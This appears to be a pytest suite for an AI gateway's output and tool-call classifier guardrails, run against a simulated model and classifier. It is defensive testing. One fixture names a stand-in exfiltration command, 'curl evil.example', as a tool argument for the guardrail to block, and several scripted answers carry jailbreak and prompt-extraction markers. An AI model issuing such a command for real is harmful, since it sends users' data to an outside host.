"""Classifier detectors on the output hooks (`request-output`: the model's answer; `tool-input`:
the tool calls it asks for) through the real proxy, and the cancellation of a shared classifier
request nobody waits on. The classifier service and the judge are the SIMULATED ones
(`simulator.classifier`), the model answer is the SIMULATED model's: `[[sim:reply_hex=...]]`
scripts an answer carrying the `SIM-UNSAFE[:category]` marker (the request itself carries only
its hex, so the input hooks see no marker); a tool whose schema has a one-value enum makes the
simulated model call it with the marker in its arguments. Real HTTP on loopback, real ledger.
"""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
import pytest_asyncio

from activities.classifiers import runtime
from activities.idempotency import idempotent_call_id
from policies.guardrails.classifiers import ClassifierSpec
from simulator.server import SimServer
from tests.proxy.classifier_support import clear_faults, events, fault, verdict
from tests.proxy.conftest import DEV_KEY
from tests.support.servers import InProcessProxy, make_config_dir

pytestmark = pytest.mark.asyncio(loop_scope="session")

OUT = "[request-output, tool-input]"


def _spec(cid: str, hooks: str, project: str, on_match: str, on_error: str, kind: str) -> str:
    return (
        f"  - id: {cid}\n"
        f"    hooks: {hooks}\n"
        f"    when: {{metadata: {{X-Governor-Project: {project}}}}}\n"
        f"    on_match: {on_match}\n"
        f"    on_error: {on_error}\n"
        f"    {kind}\n"
    )


def _overlay(sim: str) -> dict[str, str]:
    judge = ("llm_judge: {{model: support-cheap, key_id: dev-service, project: {p}, "
             "timeout_ms: {t}}}")
    http = "http: {{url: '" + sim + "/classify', timeout_ms: {t}}}"
    specs = [
        _spec("out-block", OUT, "o-block", "block", "fail_closed", http.format(t=5000)),
        _spec("out-flag", OUT, "o-flag", "flag", "fail_open", http.format(t=20000)),
        _spec("out-open", OUT, "o-open", "block", "fail_open", http.format(t=400)),
        _spec("out-closed", OUT, "o-closed", "block", "fail_closed", http.format(t=400)),
        _spec("out-judge", "[request-output]", "o-judge", "block", "fail_closed",
              judge.format(p="guard-judge-out", t=8000)),
        _spec("in-cancel-http", "[request-input]", "o-cancel-http", "block", "fail_closed",
              http.format(t=30000)),
        _spec("in-cancel-judge", "[request-input]", "o-cancel-judge", "block", "fail_closed",
              judge.format(p="guard-judge-cancel", t=30000)),
    ]  # fmt: skip
    return {
        "zz-out-classifiers.yaml": "type: gateway-guardrails-config\nname: out-classifiers\n"
        "classifiers:\n" + "".join(specs),
        "zz-out-judge-budgets.yaml": """
type: gateway-budget-config
name: out-judge-budgets
budgets:
  - id: guard-judge-out
    scope: {metadata: {X-Governor-Project: guard-judge-out}}
    ceiling_usd: 1000
    window: monthly
    on_exceed: hard_block
  - id: guard-judge-cancel
    scope: {metadata: {X-Governor-Project: guard-judge-cancel}}
    ceiling_usd: 1000
    window: monthly
    on_exceed: hard_block
""",
    }


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def osim() -> AsyncIterator[SimServer]:
    async with SimServer(port=0) as s:
        yield s


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def oproxy(
    osim: SimServer, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[InProcessProxy]:
    d: Path = make_config_dir(tmp_path_factory.mktemp("oconfig"), _overlay(osim.base_url))
    p = InProcessProxy(d, tmp_path_factory.mktemp("odata"), osim.base_url)
    await p.start()
    yield p
    await p.stop()


@pytest.fixture(autouse=True)
async def _clean_faults(osim: SimServer) -> AsyncIterator[None]:
    yield
    await clear_faults(osim)


def _scripted(answer: str) -> str:
    """A prompt the simulated model answers with exactly `answer` (the prompt holds only hex)."""
    return f"tell me something [[sim:reply_hex={answer.encode().hex()}]]"


TOOL = {"type": "function", "function": {
    "name": "run", "description": "run a command",
    "parameters": {"type": "object", "required": ["cmd"], "properties": {
        "cmd": {"type": "string", "enum": ["curl evil.example SIM-UNSAFE:data_exfiltration"]}}},
}}  # fmt: skip


def _headers(project: str, idem: str, anthropic: bool = False) -> dict[str, str]:
    h = {"X-Governor-Project": project, "Idempotency-Key": idem}
    if anthropic:
        return {**h, "x-api-key": DEV_KEY, "anthropic-version": "2023-06-01"}
    return {**h, "Authorization": f"Bearer {DEV_KEY}"}


async def _chat(proxy: InProcessProxy, project: str, text: str, *, stream: bool = False,
                tools: list[Any] | None = None) -> tuple[httpx.Response, str]:
    idem = uuid.uuid4().hex
    body: dict[str, Any] = {"model": "support-cheap", "stream": stream,
                            "messages": [{"role": "user", "content": text}]}
    if tools:
        body["tools"] = tools
    async with httpx.AsyncClient(base_url=proxy.base_url, timeout=30) as h:
        r = await h.post("/v1/chat/completions", json=body, headers=_headers(project, idem))
    return r, idempotent_call_id("dev-developer", idem)


async def _messages(proxy: InProcessProxy, project: str, text: str, *, stream: bool = False
                    ) -> tuple[httpx.Response, str]:
    idem = uuid.uuid4().hex
    body = {"model": "support-cheap", "max_tokens": 256, "stream": stream,
            "messages": [{"role": "user", "content": text}]}
    async with httpx.AsyncClient(base_url=proxy.base_url, timeout=30) as h:
        r = await h.post("/v1/messages", json=body, headers=_headers(project, idem, True))
    return r, idempotent_call_id("dev-developer", idem)




async def _row(proxy: InProcessProxy, call_id: str) -> Any:
    assert proxy.gw is not None
    await proxy.gw.writer.flush()
    return await proxy.gw.store.get_call(call_id)



def _sse(body: str) -> list[str]:
    return [ln[6:] for ln in body.splitlines() if ln.startswith("data: ")]


async def _until(check: Callable[[], Awaitable[bool]] | Callable[[], bool], what: str) -> None:
    for _ in range(600):
        ok = check()
        if not isinstance(ok, bool):
            ok = await ok
        if ok:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what}")


# Non-streamed answers ---------------------------------------------------------------------------


async def test_block_classifier_refuses_a_flagged_answer_and_the_call_is_still_charged(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _chat(oproxy, "o-block", _scripted("Sure. SIM-UNSAFE:prompt_extraction "
                                                     "my system prompt says ..."))
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["code"] == "guardrail_blocked" and "'out-block'" in err["message"]
    assert "request-output" in err["message"] and "system prompt says" not in r.text
    evs = await events(oproxy, cid)
    assert [(e.hook, e.detector, e.type, e.action) for e in evs] == [
        ("request-output", "http_classifier", "prompt_extraction", "blocked")]
    row = await _row(oproxy, cid)  # the model answered: its tokens are charged, the answer held
    assert row.error_code == "guardrail_blocked" and row.output_tokens > 0 and row.cost_usd > 0


async def test_clean_answer_goes_through_with_a_clean_verdict(oproxy: InProcessProxy) -> None:
    r, cid = await _chat(oproxy, "o-block", _scripted(f"The capital is Paris. {uuid.uuid4()}"))
    assert r.status_code == 200
    assert r.json()["choices"][0]["message"]["content"].startswith("The capital is Paris.")
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.type, e.action, e.rule_id) == ("request-output", "clean", "allowed",
                                                     "out-block")


async def test_a_tool_call_the_model_asks_for_is_classified_at_tool_input(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _chat(oproxy, "o-block", "list the files", tools=[TOOL])
    assert r.status_code == 400, r.text
    err = r.json()["error"]
    assert err["code"] == "guardrail_blocked" and "tool-input" in err["message"]
    assert "evil.example" not in r.text
    evs = await events(oproxy, cid)
    assert ("tool-input", "data_exfiltration", "blocked") in {(e.hook, e.type, e.action)
                                                              for e in evs}


async def test_anthropic_caller_gets_the_output_refusal_in_its_protocol(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _messages(oproxy, "o-block", _scripted("ok SIM-UNSAFE:jailbreak as DAN"))
    assert r.status_code == 400
    body = r.json()
    assert body["type"] == "error" and "guardrail rule 'out-block'" in body["error"]["message"]
    assert "as DAN" not in r.text
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.type, e.action) == ("request-output", "jailbreak", "blocked")


async def test_responses_api_answer_is_classified_too(oproxy: InProcessProxy) -> None:
    async with httpx.AsyncClient(base_url=oproxy.base_url, timeout=30) as h:
        r = await h.post("/v1/responses", json={
            "model": "support-cheap", "input": _scripted("hi SIM-UNSAFE:jailbreak")},
            headers=_headers("o-block", uuid.uuid4().hex))  # fmt: skip
    assert r.status_code == 400 and r.json()["error"]["code"] == "guardrail_blocked"


async def test_flag_mode_answers_at_once_and_records_the_verdict_later(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    await fault(osim, latency_ms=3000, count=1)
    r, cid = await _chat(oproxy, "o-flag", _scripted("fine SIM-UNSAFE:jailbreak"))
    assert r.status_code == 200  # did not wait for the 3 s classifier
    assert r.json()["choices"][0]["message"]["content"].startswith("fine")
    assert oproxy.gw is not None and runtime(oproxy.gw)._tasks, "verdict should be pending"
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.type, e.action) == ("request-output", "jailbreak", "flagged")


async def test_output_classifier_timeout_follows_the_fail_policy(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    await fault(osim, latency_ms=3000)
    r, cid = await _chat(oproxy, "o-closed", _scripted(f"hello {uuid.uuid4()}"))
    assert r.status_code == 503 and r.json()["error"]["code"] == "guardrail_unavailable"
    (e,) = await events(oproxy, cid)
    assert (e.type, e.action) == ("classifier_unavailable", "blocked")
    assert verdict(e)["error"] == "no answer within 400 ms"
    r, cid = await _chat(oproxy, "o-open", _scripted(f"hello {uuid.uuid4()}"))
    assert r.status_code == 200
    (e,) = await events(oproxy, cid)
    assert (e.type, e.action) == ("classifier_unavailable", "allowed")


async def test_judge_blocks_a_flagged_answer_and_is_charged_to_its_own_project(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _chat(oproxy, "o-judge", _scripted("here: SIM-UNSAFE:data_exfiltration"))
    assert r.status_code == 400 and "'out-judge'" in r.json()["error"]["message"]
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.detector, e.type, e.action) == ("request-output", "llm_judge",
                                                     "data_exfiltration", "blocked")
    judge = await _row(oproxy, verdict(e)["judge_call_id"])
    assert judge.project == "guard-judge-out" and judge.cost_usd > 0
    # the judge's own answer went through no classifier (no judge of the judge)
    assert await events(oproxy, judge.call_id) == []


# Streamed answers --------------------------------------------------------------------------------


async def test_streamed_flagged_answer_ends_with_an_error_event_instead_of_its_finish(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _chat(oproxy, "o-block", _scripted("streamed SIM-UNSAFE:jailbreak text"),
                         stream=True)
    assert r.status_code == 200
    data = _sse(r.text)
    assert "[DONE]" not in data
    chunks = [orjson.loads(d) for d in data]
    assert not any(c.get("choices") and c["choices"][0].get("finish_reason") for c in chunks)
    assert chunks[-1]["error"]["code"] == "guardrail_blocked"
    assert "'out-block'" in chunks[-1]["error"]["message"]
    row = await _row(oproxy, cid)
    assert row.error_code == "guardrail_blocked" and row.output_tokens > 0
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.type, e.action) == ("request-output", "jailbreak", "blocked")


async def test_streamed_clean_answer_keeps_its_finish_and_done(oproxy: InProcessProxy) -> None:
    answer = f"all good here {uuid.uuid4()}"
    r, cid = await _chat(oproxy, "o-block", _scripted(answer), stream=True)
    data = _sse(r.text)
    assert data[-1] == "[DONE]"
    chunks = [orjson.loads(d) for d in data[:-1]]
    text = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c["choices"])
    assert text == answer
    assert any(c["choices"] and c["choices"][0].get("finish_reason") == "stop" for c in chunks)
    row = await _row(oproxy, cid)
    assert row.error_code is None and row.status_code == 200
    (e,) = await events(oproxy, cid)
    assert (e.type, e.action) == ("clean", "allowed")


async def test_streamed_anthropic_answer_is_refused_before_message_stop(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _messages(oproxy, "o-block", _scripted("ok SIM-UNSAFE:jailbreak"), stream=True)
    names = [ln[7:] for ln in r.text.splitlines() if ln.startswith("event: ")]
    assert "message_stop" not in names and "message_delta" not in names
    assert names[-1] == "error"  # deltas relayed before the end, if any, then the error
    last = orjson.loads(_sse(r.text)[-1])
    assert last["type"] == "error" and "'out-block'" in last["error"]["message"]
    row = await _row(oproxy, cid)
    assert row.error_code == "guardrail_blocked"


async def test_streamed_tool_call_is_classified_at_its_end(oproxy: InProcessProxy) -> None:
    r, cid = await _chat(oproxy, "o-block", "list the files", tools=[TOOL], stream=True)
    last = orjson.loads(_sse(r.text)[-1])
    assert last["error"]["code"] == "guardrail_blocked" and "tool-input" in last["error"]["message"]
    assert "evil.example" not in r.text  # the arguments were held with the end
    assert (await _row(oproxy, cid)).error_code == "guardrail_blocked"


async def test_streamed_responses_api_fails_the_response(oproxy: InProcessProxy) -> None:
    async with httpx.AsyncClient(base_url=oproxy.base_url, timeout=30) as h:
        r = await h.post("/v1/responses", json={
            "model": "support-cheap", "stream": True,
            "input": _scripted("hi SIM-UNSAFE:jailbreak")},
            headers=_headers("o-block", uuid.uuid4().hex))  # fmt: skip
    names = [ln[7:] for ln in r.text.splitlines() if ln.startswith("event: ")]
    assert names[-1] == "response.failed" and "response.completed" not in names
    assert "guardrail_blocked" in r.text


async def test_streamed_flag_mode_relays_untouched_and_records_later(
    oproxy: InProcessProxy,
) -> None:
    r, cid = await _chat(oproxy, "o-flag", _scripted("stream SIM-UNSAFE:jailbreak"), stream=True)
    assert _sse(r.text)[-1] == "[DONE]"
    (e,) = await events(oproxy, cid)
    assert (e.hook, e.type, e.action) == ("request-output", "jailbreak", "flagged")


# Cancellation -----------------------------------------------------------------------------------


async def test_a_client_that_leaves_cancels_the_block_classifier_request(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    assert oproxy.gw is not None
    rt = runtime(oproxy.gw)
    await fault(osim, latency_ms=25000, count=1)
    before = rt.cancelled.get("in-cancel-http", 0)
    with pytest.raises(httpx.ReadTimeout):
        async with httpx.AsyncClient(base_url=oproxy.base_url, timeout=1.5) as h:
            await h.post("/v1/chat/completions",
                         headers=_headers("o-cancel-http", uuid.uuid4().hex),
                         json={"model": "support-cheap", "messages": [
                             {"role": "user", "content": f"hello {uuid.uuid4()}"}]})
    # the client left after 1.5 s; the classifier's 30 s budget is not waited out
    await _until(lambda: rt.cancelled.get("in-cancel-http", 0) == before + 1, "the cancel")
    assert not rt._inflight


async def test_a_cancelled_judge_call_releases_its_reservation_and_charges_nothing(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    gw = oproxy.gw
    assert gw is not None
    rt = runtime(gw)

    def reserved() -> float:
        return sum(v for k, v in gw.state.reserved_spend.items() if k[0] == "guard-judge-cancel")

    spent = sum(v for k, v in gw.state.spend.items() if k[0] == "guard-judge-cancel")
    task = asyncio.ensure_future(_chat(oproxy, "o-cancel-judge",
                                       f"slow judge {uuid.uuid4()} [[sim:latency_ms=25000]]"))
    await _until(lambda: reserved() > 0, "the judge's reservation")  # its call is upstream
    in_flight = osim.state.in_flight
    assert in_flight >= 1
    task.cancel()  # the client leaves
    with pytest.raises(asyncio.CancelledError):
        await task
    await _until(lambda: rt.cancelled.get("in-cancel-judge", 0) == 1, "the judge cancelled")
    await _until(lambda: reserved() == 0, "the reservation released")
    await _until(lambda: osim.state.in_flight == in_flight - 1, "the judge's request closed")
    assert sum(v for k, v in gw.state.spend.items() if k[0] == "guard-judge-cancel") == spent


async def test_a_shared_block_request_is_cancelled_only_when_its_last_waiter_leaves(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    gw = oproxy.gw
    assert gw is not None
    rt = runtime(gw)
    sim_url = f"{osim.base_url}/classify"
    block = ClassifierSpec.model_validate({"id": "rt-block", "hooks": ["request-output"],
                                           "on_match": "block",
                                           "http": {"url": sim_url, "timeout_ms": 30000}})
    flag = ClassifierSpec.model_validate({"id": "rt-flag", "hooks": ["request-output"],
                                          "http": {"url": sim_url, "timeout_ms": 30000}})
    await fault(osim, latency_ms=1500)
    text, key = f"shared {uuid.uuid4()}", uuid.uuid4().bytes
    a = asyncio.ensure_future(rt.verdict(block, text, key))
    b = asyncio.ensure_future(rt.verdict(block, text, key))
    await _until(lambda: key in rt._inflight and rt._inflight[key].waiters == 2, "two waiters")
    a.cancel()
    await asyncio.sleep(0)
    assert not rt._inflight[key].task.done()  # b still waits: the request goes on
    v, shared, _ = await b
    assert v.error is None and shared is True and rt.cancelled.get("rt-block", 0) == 0
    # the last waiter leaving cancels it
    key2 = uuid.uuid4().bytes
    c = asyncio.ensure_future(rt.verdict(block, text + "2", key2))
    await _until(lambda: key2 in rt._inflight, "the request")
    task = rt._inflight[key2].task
    c.cancel()
    await _until(task.done, "the cancel")
    assert task.cancelled() and rt.cancelled["rt-block"] == 1 and key2 not in rt._inflight
    # flag mode: the request completes (its verdict is the record, and it fills the cache)
    key3 = uuid.uuid4().bytes
    d = asyncio.ensure_future(rt.verdict(flag, text + "SIM-UNSAFE", key3))
    await _until(lambda: key3 in rt._inflight, "the flag request")
    task = rt._inflight[key3].task
    d.cancel()
    v, _ = await task
    assert v.flagged and rt.cancelled.get("rt-flag", 0) == 0
    assert (await rt.verdict(flag, text + "SIM-UNSAFE", key3))[1] is True  # cached


async def test_a_client_leaving_a_streamed_answer_cancels_its_pending_verdict(
    oproxy: InProcessProxy, osim: SimServer
) -> None:
    assert oproxy.gw is not None
    rt = runtime(oproxy.gw)
    before = rt.cancelled.get("out-block", 0)
    await fault(osim, latency_ms=25000, count=1)  # the verdict would take 5 s (its timeout)
    idem = uuid.uuid4().hex
    body = {"model": "support-cheap", "stream": True,
            "messages": [{"role": "user", "content": _scripted(f"streamed {uuid.uuid4()}")}]}
    with pytest.raises(httpx.ReadTimeout):
        async with httpx.AsyncClient(base_url=oproxy.base_url, timeout=1.5) as h:
            async with h.stream("POST", "/v1/chat/completions", json=body,
                                headers=_headers("o-block", idem)) as r:
                async for _ in r.aiter_bytes():
                    pass
    await _until(lambda: rt.cancelled.get("out-block", 0) == before + 1, "the verdict cancelled")
    row = await _row(oproxy, idempotent_call_id("dev-developer", idem))
    assert row.error_code == "client_closed"
